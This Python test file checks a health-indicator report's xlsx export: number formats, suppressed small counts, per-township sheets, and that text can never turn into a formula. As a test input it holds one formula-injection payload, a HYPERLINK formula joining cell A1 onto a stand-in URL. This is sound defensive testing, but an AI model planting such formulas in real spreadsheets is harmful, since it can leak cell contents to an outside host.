"""The report's spreadsheet read back with openpyxl: typed cells with number formats, a sheet per level below the
area, named missing populations, and text that never becomes a formula."""

from __future__ import annotations

from io import BytesIO

from openpyxl import load_workbook

from metrics.reports.document import AreaRef
from metrics.reports.rows import AreaSection, CountRow, Row
from metrics.reports.xlsx import build_workbook
from tests.metrics.sheets import level_table

FORMULA = '=HYPERLINK("http://x"&A1,"y")'


def section(name: str, code: str, level: int = 4) -> AreaSection:
    rows = [
        Row("报告患病率", 23, 5110, "4.50‰", "≥4.5‰", True, name="reported_prevalence", value=4.5010),
        Row("规范管理率", 49, 57, "85.96%", "≥80%", True, name="regular_management_rate", value=49 / 57 * 100),
        Row("面访率", 0, 0, "—", "—", None, name="face_to_face_rate"),
        Row("服药率", "<5", "<5", "—", "≥80%", None, name="medication_rate", suppressed=True),
    ]
    counts = [CountRow("新登记患者", 3, "new_registrations"), CountRow("有肇祸的患者", "<5", "disaster")]
    return AreaSection(AreaRef(code, name, level), rows, counts, ["城关镇 (320508001000)"] if level == 3 else [])


def workbook(own: AreaSection, *children: AreaSection) -> bytes:
    return build_workbook("报告 2025年", own, [("乡镇", list(children))], ["指标口径：bphs-2017", "-1 footnote"])


def test_rates_are_fractions_with_percent_formats_and_counts_integers() -> None:
    book = load_workbook(BytesIO(workbook(section("姑苏区", "320508000000", 3), section("甲街道", "320508001000"))))
    sheet = book["指标报告"]
    by_label = {row[0].value: row for row in sheet.iter_rows(min_row=5) if row[0].value}
    prevalence = by_label["报告患病率"]
    assert prevalence[1].value == 23 and prevalence[1].number_format == "0"
    assert prevalence[3].value == 4.5010 and prevalence[3].number_format == '0.00"‰"'
    regular = by_label["规范管理率"]
    assert regular[3].value == 49 / 57 and regular[3].number_format == "0.00%"
    assert regular[3].data_type == "n" and regular[4].value == "≥80%" and regular[5].value == "达标"
    assert by_label["面访率"][3].value == "—" and by_label["服药率"][1].value == "<5"
    assert by_label["新登记患者"][1].value == 3 and by_label["有肇祸的患者"][1].value == "<5"
    assert any("城关镇 (320508001000)" in str(row[1].value) for row in sheet.iter_rows())
    assert any(row[0].value == "'-1 footnote" for row in sheet.iter_rows())  # footer text is inert too


def test_a_sheet_per_level_with_one_row_per_area() -> None:
    content = workbook(section("姑苏区", "320508000000", 3), section("甲街道", "320508001000"), section("乙", "2"))
    assert load_workbook(BytesIO(content)).sheetnames == ["指标报告", "乡镇"]
    table = level_table(content, "乡镇")
    assert list(table) == ["甲街道", "乙"]
    township = table["甲街道"]
    assert township["区划代码"] == "320508001000"
    assert township["规范管理率/分子"] == 49 and township["规范管理率/分母"] == 57
    assert township["规范管理率/率"] == 49 / 57
    assert township["新登记患者"] == 3 and township["有肇祸的患者"] == "<5"


def test_a_formula_area_name_is_inert_text() -> None:
    content = workbook(section(FORMULA, "320508000000", 3), section(FORMULA, "320508001000"))
    book = load_workbook(BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    named = [
        (cell.data_type, cell.value) for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert len(named) == 2  # the area's heading and the township's row
    assert all(kind == "s" and value.startswith("'=") for kind, value in named)
    assert not any(cell.data_type == "f" for cell in cells)
